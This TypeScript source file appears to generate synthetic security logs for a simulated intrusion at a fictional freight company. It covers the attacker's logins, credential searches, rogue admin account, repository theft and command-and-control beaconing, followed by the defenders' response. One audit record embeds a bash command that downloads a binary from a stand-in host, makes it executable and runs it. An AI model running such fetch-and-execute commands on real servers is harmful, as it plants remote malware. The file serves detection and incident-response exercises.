/** What the attacker of Northgate Freight does, and what the defenders do about it. */

import { at, HOUR, MINUTE, SECOND } from '../../../sample-data/generate/clock.ts';
import { laptop } from '../../../sample-data/generate/kit/company.ts';
import { identity, ip, native } from '../../../sample-data/generate/kit/scenario.ts';
import { regularly } from '../ordinary.ts';
import { issue, moments, oktaToken, type Scene, sessionId } from '../scene.ts';
import {
  BROWSER,
  type Cast,
  COMMAND,
  GATEWAY,
  GIT,
  JIRA,
  RENTED,
  REPOSITORIES,
  SCRIPT,
  SECOND_LINE,
  SECRET_ISSUES,
  SECRET_PAGES,
  TOKEN,
  WIKI,
} from './company.ts';

export function attack(scene: Scene, cast: Cast) {
  const { random } = scene;
  const { shipsync, made } = cast;
  const probe = scene.attacker('probe');
  const first = probe.oktaRefused(
    cast.daniel,
    { address: RENTED, userAgent: BROWSER },
    at('2024-03-19 07:41:12') + 204,
  );
  probe.oktaRefused(cast.daniel, { address: RENTED, userAgent: BROWSER }, at('2024-03-19 07:41:58') + 31);
  probe.oktaRefused(cast.print, { address: RENTED, userAgent: BROWSER }, at('2024-03-19 07:44:20') + 910);

  const pass = (time: string, from = RENTED, refusedAs: string | null = null) =>
    scene
      .attacker(refusedAs === null ? 'gateway' : 'lockout')
      .sso(cast.routeplan, { address: from, userAgent: SCRIPT }, at(time) + random.int(20, 900), GATEWAY, {
        apiTokenId: TOKEN,
        requestUri: '/app/atlassian_gateway/sso',
        ...(refusedAs === null ? {} : { result: 'FAILURE', reason: refusedAs }),
      });
  const token = pass('2024-03-19 08:03:31');
  pass('2024-03-20 08:40:02');
  pass('2024-03-21 09:11:45');
  pass('2024-03-22 13:58:10');

  const service = scene.attacker('service-account');
  const reading = scene.attacker('reading');
  const days = ['2024-03-19 08:05:00', '2024-03-20 08:42:00', '2024-03-21 09:13:00'];
  days.forEach((start, day) => {
    service.signIn('jira', shipsync, RENTED.ip, at(start) + 3_100);
    service.signIn('confluence', shipsync, RENTED.ip, at(start) + 44_700);
    const words = [
      ['vpn', 'api key'],
      ['svc-build', 'password'],
      ['jira server', 'backup'],
    ][day]!;
    words.forEach((word, index) => {
      reading.searchPages(shipsync, RENTED.ip, at(start) + (index + 1) * 7 * MINUTE + 212, word);
    });
    const end = at(start) + 4 * HOUR;
    moments(random, at(start) + 2 * MINUTE, end, 20).forEach((time, index) => {
      reading.viewPage(
        shipsync,
        index % 6 === 5 ? `${RENTED.ip}, 10.20.4.5` : RENTED.ip,
        time,
        SECRET_PAGES[day * 20 + index]!,
      );
    });
    moments(random, at(start) + 3 * MINUTE, end, 6).forEach((time, index) => {
      reading.viewIssue(shipsync, RENTED.ip, time, SECRET_ISSUES[day * 6 + index]!);
    });
  });

  const making = scene.attacker('made-account');
  making.createUser(shipsync, RENTED.ip, at('2024-03-21 13:30:09') + 87, made);
  for (const [index, group] of ['jira-software-users', 'confluence-users', 'bitbucket-users'].entries())
    making.addToGroup(shipsync, RENTED.ip, at('2024-03-21 13:31:12') + index * 22 * SECOND, made, group);
  making.signIn('jira', made, RENTED.ip, at('2024-03-21 13:40:51') + 608);
  making.signIn('bitbucket', made, RENTED.ip, at('2024-03-21 13:43:20') + 11);
  making.viewIssue(shipsync, RENTED.ip, at('2024-03-22 15:20:04') + 455, SECRET_ISSUES[2]!);

  const back = scene.attacker('second-address');
  pass('2024-03-27 09:12:40', SECOND_LINE);
  pass('2024-03-28 12:50:16', SECOND_LINE);
  back.signIn('jira', made, SECOND_LINE.ip, at('2024-03-27 09:16:02') + 341);
  back.signIn('jira', shipsync, SECOND_LINE.ip, at('2024-03-27 09:31:40') + 77);
  for (const [index, key] of SECRET_ISSUES.slice(0, 5).entries())
    back.viewIssue(made, SECOND_LINE.ip, at('2024-03-27 09:40:00') + index * 4 * MINUTE + 19, key);
  back.signIn('jira', shipsync, SECOND_LINE.ip, at('2024-03-28 12:52:37') + 5);

  const code = at('2024-03-28 13:05:26') + 160;
  scene
    .attacker('code-on-server')
    .audit(shipsync, SECOND_LINE.ip, code, 'jira.auditing.scriptrunner.console.executed', {
      extra: {
        script:
          '["bash","-c","curl -fsSo /var/tmp/.jsvc https://cdn-static.loadfreight.example/jsvc && chmod 700 /var/tmp/.jsvc && /var/tmp/.jsvc"].execute()',
      },
    });

  const repositories = scene.attacker('repositories');
  repositories.signIn('bitbucket', made, SECOND_LINE.ip, at('2024-03-28 13:20:18') + 66);
  moments(random, at('2024-03-28 13:22:00'), at('2024-03-28 17:40:00'), 32).forEach((time, index) => {
    repositories.repository('viewed', made, SECOND_LINE.ip, time, REPOSITORIES[index]!);
  });
  repositories.signIn('bitbucket', cast.build, JIRA.ip, at('2024-03-28 21:02:09') + 402);
  moments(random, at('2024-03-28 21:03:00'), at('2024-03-29 01:15:00'), 26).forEach((time, index) => {
    repositories.repository('archived', cast.build, JIRA.ip, time, REPOSITORIES[index]!);
  });

  const group = scene.attacker('admin-group');
  group.signIn('jira', shipsync, SECOND_LINE.ip, at('2024-04-02 15:24:02') + 220);
  group.addToGroup(shipsync, SECOND_LINE.ip, at('2024-04-02 15:29:41') + 514, made, 'jira-administrators');
  const lockout = scene.attacker('lockout');
  lockout.refused('jira', shipsync, SECOND_LINE.ip, at('2024-04-02 18:20:15') + 12);
  lockout.refused('jira', made, SECOND_LINE.ip, at('2024-04-02 18:21:33') + 840);
  lockout.refused('jira', made, SECOND_LINE.ip, at('2024-04-03 07:02:10') + 95);
  pass('2024-04-02 18:23:50', SECOND_LINE, 'API_TOKEN_INVALID');

  attackFlows(scene, code);
  // The made account is named by its login: Data Center records have no id of their own.
  return [native(first), native(token), identity(made.login), ip(SECOND_LINE.ip), ip(COMMAND)];
}

/** The attacker's requests as the interfaces saw them, and the calls of what was put on the Jira server. */
function attackFlows(scene: Scene, code: number): void {
  const { random } = scene;
  const flows = scene.attacker('attacker-flows');
  const probe = at('2024-03-19 07:46:00');
  for (const [index, door] of [JIRA, WIKI].entries())
    flows.talk(door, probe + index * 90 * SECOND, RENTED.ip, door.ip, 443, [2_200, 11_800]);
  for (const day of ['2024-03-19 08:05', '2024-03-20 08:42', '2024-03-21 09:13'])
    for (const door of [JIRA, WIKI])
      for (const time of moments(random, at(`${day}:00`), at(`${day}:00`) + 4 * HOUR, 9))
        flows.talk(door, time, RENTED.ip, door.ip, 443, [
          random.int(1_900, 8_000),
          random.int(20_000, 260_000),
        ]);
  flows.talk(JIRA, at('2024-03-21 13:30:01'), RENTED.ip, JIRA.ip, 443, [9_100, 71_000]);
  flows.talk(GIT, at('2024-03-21 13:43:01'), RENTED.ip, GIT.ip, 443, [2_400, 19_000]);
  flows.talk(JIRA, at('2024-03-22 15:20:00'), RENTED.ip, JIRA.ip, 443, [1_900, 14_000]);
  for (const [start, door] of [
    ['2024-03-27 09:15:40', JIRA],
    ['2024-03-27 09:45:11', JIRA],
    ['2024-03-28 12:52:30', JIRA],
    ['2024-03-28 13:05:20', JIRA],
    ['2024-04-02 15:23:58', JIRA],
  ] as const)
    flows.talk(door, at(start), SECOND_LINE.ip, door.ip, 443, [
      random.int(4_000, 30_000),
      random.int(30_000, 300_000),
    ]);
  for (const time of moments(random, at('2024-03-28 13:20:10'), at('2024-03-28 17:40:00'), 22))
    flows.talk(GIT, time, SECOND_LINE.ip, GIT.ip, 443, [
      random.int(2_000, 9_000),
      random.int(40_000, 200_000),
    ]);
  for (const time of ['2024-04-02 18:20:11', '2024-04-02 18:21:30', '2024-04-03 07:02:04'])
    flows.talk(JIRA, at(time), SECOND_LINE.ip, JIRA.ip, 443, [1_800, 6_400]);

  const beacon = scene.attacker('beacon');
  beacon.talk(JIRA, code + 3 * SECOND, JIRA.ip, COMMAND, 443, [1_500, 7_340_032]);
  regularly(random, code + 40 * SECOND, at('2024-04-03 10:31:00'), 420, (time) => {
    const ordered = random.chance(0.06);
    beacon.talk(
      JIRA,
      time,
      JIRA.ip,
      COMMAND,
      443,
      ordered ? [random.int(20_000, 900_000), 24_000] : [random.int(1_150, 1_390), random.int(1_500, 1_720)],
    );
  });
  // What svc-build archived went over the wire between the two servers.
  const moved = scene.attacker('repositories');
  for (const time of moments(random, at('2024-03-28 21:03:00'), at('2024-03-29 01:15:00'), 12))
    moved.talk(GIT, time, JIRA.ip, GIT.ip, 443, [
      random.int(2_000, 6_000),
      random.int(2_000_000, 30_000_000),
    ]);
}

export function response(scene: Scene, cast: Cast): void {
  const { admin, lead, shipsync, made, socbot } = cast;
  const alert = 'SEC-1190';
  const office = laptop(admin).address.ip;
  scene
    .response('alert')
    .ticket(
      socbot,
      '10.20.9.40',
      at('2024-04-02 15:31:00') + 702,
      alert,
      'Alert: tbrandt was added to jira-administrators by svc-shipsync',
      [made, shipsync],
    );
  scene
    .response('alert')
    .audit(lead, lead.office.ip, at('2024-04-02 15:44:19') + 81, 'jira.auditing.issue.updated', {
      affected: [issue(alert), scene.user(made)],
      changed: [{ key: 'Status', from: 'New', to: 'Investigating' }],
    });
  const closed = scene.response('accounts-closed');
  closed.deactivate(admin, office, at('2024-04-02 16:02:40') + 9, made);
  closed.deactivate(admin, office, at('2024-04-02 16:03:55') + 333, shipsync);
  closed.audit(
    admin,
    office,
    at('2024-04-02 17:10:12') + 45,
    'bitbucket.service.user.audit.action.userdeleted',
    {
      affected: [scene.user(cast.build, 'bitbucket')],
    },
  );
  scene
    .response('token-revoked')
    .okta(lead, laptop(lead), at('2024-04-02 16:40:28') + 610, 'system.api_token.revoke', {
      session: sessionId(scene.random),
      targets: [oktaToken(TOKEN, 'Routeplan gateway')],
    });
  scene
    .response('declared')
    .ticket(
      lead,
      lead.office.ip,
      at('2024-04-02 17:30:05') + 18,
      'SEC-1191',
      `Incident: svc-shipsync misused, account tbrandt made, from ${RENTED.ip} and ${SECOND_LINE.ip}; Jira server calls ${COMMAND}`,
      [shipsync, made],
    );
  scene
    .response('removed')
    .audit(admin, office, at('2024-04-03 10:38:51') + 120, 'jira.auditing.issue.updated', {
      affected: [issue('SEC-1191')],
      changed: [{ key: 'Comment', to: `jsvc removed from ${JIRA.ip}, ${COMMAND} blocked` }],
    });
}
